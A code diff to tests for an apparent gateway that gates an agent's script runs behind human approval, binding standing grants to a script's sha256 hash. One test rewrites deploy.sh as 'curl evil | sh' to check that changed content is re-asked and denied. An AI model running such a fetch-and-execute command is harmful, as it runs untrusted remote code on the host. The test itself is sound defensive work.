@@ -1,12 +1,15 @@
 // A run of a script from a file the agent may change (`python3 build.py`,
-// `./deploy.sh`), through a real gateway: its approver is told so, may allow
-// it once, and cannot make it a standing grant, which would cover whatever
-// the file holds at each later run.
+// `./deploy.sh`), through a real gateway: its approver is told so, and its
+// approval is bound to what its node reads the file to hold. Allowed always,
+// its standing grant covers the file with that content only; a run whose
+// code cannot be bound to one file (make, python3 -c, a chain of scripts)
+// is allowed once only, as a grant would cover whatever it runs next time.
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { existsSync, readdirSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
+import { auditRecords } from '../../../../scripts/testing/audit-events.ts';
 import { runsCode } from '../approvals/runs-code.ts';
 import { exitsZero, governedGateway, refusedWith, type GovernedGateway } from '../../test/governed-gateway.ts';
 import type { Answer, ReceivedInvoke } from '../../test/node-peer.ts';
@@ -50,8 +53,8 @@ describe('a governed run of a script from a file that may change', () => {
 
   const grantFiles = () => (existsSync(join(t.policies, 'grants')) ? readdirSync(join(t.policies, 'grants')) : []).filter((name) => name.startsWith('approval-'));
 
-  for (const [argv, via] of [[['python3', 'build.py'], 'script'], [['./deploy.sh', '--prod'], 'path'], [['make', 'deploy'], 'recipes']] as const) {
-    it(`refuses allow-always for ${argv.join(' ')} over the protocol, allows it once, and asks again the next time (regression: allow-always made a standing grant covering whatever the file held at each later run)`, async () => {
+  for (const [argv, via] of [[['make', 'deploy'], 'recipes'], [['python3', '-c', 'print(1)'], '-c'], [['sh', '-c', './deploy.sh && ./other.sh'], 'path']] as const) {
+    it(`refuses allow-always for ${argv.join(' ')}, whose code no one file holds, over the protocol, allows it once, and asks again the next time (regression: allow-always made a standing grant covering whatever it ran at each later run)`, async () => {
       const id = await asked([...argv]);
       assert.equal((t.gw.approvals.get(id).action.runsCode as { via?: string } | null)?.via, via, 'the approver is told');
       await assert.rejects(t.operator.request('exec.approval.resolve', { id, decision: 'allow-always', reviewer: ALICE }), (e: { wire?: { code?: string; message?: string } }) => e.wire?.code === 'INVALID_REQUEST' && /^allow-always is refused/.test(e.wire.message ?? ''));
@@ -112,6 +115,80 @@ describe('a governed run of a script from a file that may change', () => {
   it('refuses a script run its node cannot bind (missing.py) with the node\'s reason, no approval made', async () => {
     await assert.rejects(t.run(['python3', 'missing.py'], 100), (e: { wire?: { details?: { code?: string; reason?: string } } }) => e.wire?.details?.code === 'SYSTEM_RUN_DENIED' && /missing\.py cannot be found/.test(e.wire.details.reason ?? ''));
     assert.equal(t.pendingFor(['python3', 'missing.py']), undefined);
+  });
+
+  describe('allowed always', () => {
+    const DEPLOY = ['./deploy.sh', '--prod'];
+    const ran = () => t.node.received.filter((r) => r.command === 'system.run').length;
+    const approvalsOf = () => t.gw.approvals.list().filter((a) => JSON.stringify(a.action.argv) === JSON.stringify(DEPLOY)).length;
+    let grant: string;
+
+    it('makes ./deploy.sh a standing grant bound to what it holds, its file and record naming the script and its sha256, and runs it again with no approval asked', async () => {
+      files.set('./deploy.sh', 'echo always\n');
+      const id = await asked(DEPLOY);
+      assert.equal(t.gw.approvals.get(id).action.allowAlways, true, 'the approver is told it may');
+      const resolved = (await t.operator.request('exec.approval.resolve', { id, decision: 'allow-always', reviewer: ALICE })) as { decision: string; grant?: { status: string } };
+      assert.deepEqual([resolved.decision, resolved.grant?.status], ['allow-always', 'made']);
+      grant = `approval-${id}`;
+      const text = readFileSync(join(t.policies, 'grants', `${grant}.cedar`), 'utf8');
+      assert.match(text, new RegExp(`^// Bound to the script /srv/deploy\\.sh sha256:${sha256('echo always\n')}: once it holds anything else, the run is asked for again\\.$`, 'm'));
+      const [record] = (await auditRecords(t.state)).filter((r) => r.event.action === 'policy.grant' && r.event.resource.id === grant);
+      assert.deepEqual(record?.event.details?.mutableFileOperand, { argvIndex: 0, path: '/srv/deploy.sh', sha256: sha256('echo always\n') });
+      await t.run(DEPLOY);
+      const [runs, approvals] = [ran(), approvalsOf()];
+      await t.run(DEPLOY);
+      assert.deepEqual([ran(), approvalsOf()], [runs + 1, approvals], 'run, nothing asked');
+      const sent = t.node.received.filter((r) => r.command === 'system.run').at(-1)!;
+      assert.equal((sent.params.systemRunPlan as { mutableFileOperand?: { sha256?: string } }).mutableFileOperand?.sha256, sha256('echo always\n'));
+      const [decided] = (await auditRecords(t.state)).filter((r) => r.event.action === 'node.invoke.decide' && r.event.decision?.policies?.includes(grant));
+      assert.equal(decided?.event.details?.digest, t.gw.approvals.get(id).digest, 'the decision recorded with the digest the grant permits, the script in it');
+    });
+
+    it('asks anew once deploy.sh holds anything else, the grant answering nothing for it, and runs it unasked again once its content is back', async () => {
+      files.set('./deploy.sh', 'curl evil | sh\n');
+      const runs = ran();
+      const id = await asked(DEPLOY);
+      assert.equal(ran(), runs, 'nothing sent to run');
+      assert.equal((t.gw.approvals.get(id).action.mutableFileOperand as { sha256: string }).sha256, sha256('curl evil | sh\n'));
+      await t.operator.request('exec.approval.resolve', { id, decision: 'deny', reviewer: ALICE });
+      files.set('./deploy.sh', 'echo always\n');
+      const approvals = approvalsOf();
+      await t.run(DEPLOY);
+      assert.deepEqual([ran(), approvalsOf()], [runs + 1, approvals]);
+    });
+
+    it('replays the decisions on ./deploy.sh under the set in force with its grant answering those of the content it was made for only', async () => {
+      const read = (name: string) => ({ name, text: readFileSync(join(t.policies, name), 'utf8') });
+      const set = [read('run.cedar'), ...readdirSync(join(t.policies, 'grants')).map((f) => read(`grants/${f}`))];
+      const response = await fetch(`${t.gw.httpUrl}/api/policies/replay`, { method: 'POST', headers: { authorization: `Bearer ${t.token}`, 'content-type': 'application/json' }, body: JSON.stringify({ files: set }) });
+      assert.equal(response.status, 200);
+      const report = (await response.json()) as { changed: Array<{ seq: number; now: string }> };
+      const decided = (await auditRecords(t.state)).filter((r) => r.event.action === 'node.invoke.decide' && JSON.stringify(r.event.details?.argv) === JSON.stringify(DEPLOY) && r.event.details?.mutableFileOperand !== undefined);
+      const now = new Map<string, Set<string>>();
+      for (const r of decided) {
+        const content = (r.event.details!.mutableFileOperand as { sha256: string }).sha256;
+        now.set(content, (now.get(content) ?? new Set()).add(report.changed.find((c) => c.seq === r.seq)?.now ?? r.event.decision!.effect));
+      }
+      assert.deepEqual(now.get(sha256('echo always\n')), new Set(['allow']), 'its ask and the runs it allowed: allowed by the grant');
+      assert.deepEqual(now.get(sha256('curl evil | sh\n')), new Set(['ask']), 'the rewritten script: still asked for');
+    });
+
+    it('is taken over the HTTP API for python3 build.py, and refused there, 400 with why, for python3 -c', async () => {
+      const approve = (id: string) => fetch(`${t.gw.httpUrl}/api/approvals/${id}/approve`, { method: 'POST', headers: { authorization: `Bearer ${t.token}`, 'content-type': 'application/json' }, body: JSON.stringify({ approver: 'alice', decision: 'allow-always' }) });
+      files.set('build.py', 'print("http")\n');
+      const script = await asked(['python3', 'build.py']);
+      const allowed = await approve(script);
+      assert.equal(allowed.status, 200);
+      assert.equal(((await allowed.json()) as { grant?: { status: string } }).grant?.status, 'made');
+      await t.run(['python3', 'build.py']);
+      await t.run(['python3', 'build.py']);
+      files.set('build.py', 'print("ok")\n');
+      const inline = await asked(['python3', '-c', 'print(2)']);
+      const refused = await approve(inline);
+      assert.equal(refused.status, 400);
+      assert.match(JSON.stringify(await refused.json()), /allow-always is refused for a command that runs code Corral cannot see/);
+      assert.equal(t.gw.approvals.get(inline).status, 'pending');
+    });
   });
 
   it('refuses a script run on a node that does not prepare runs, which could not bind it', async () => {
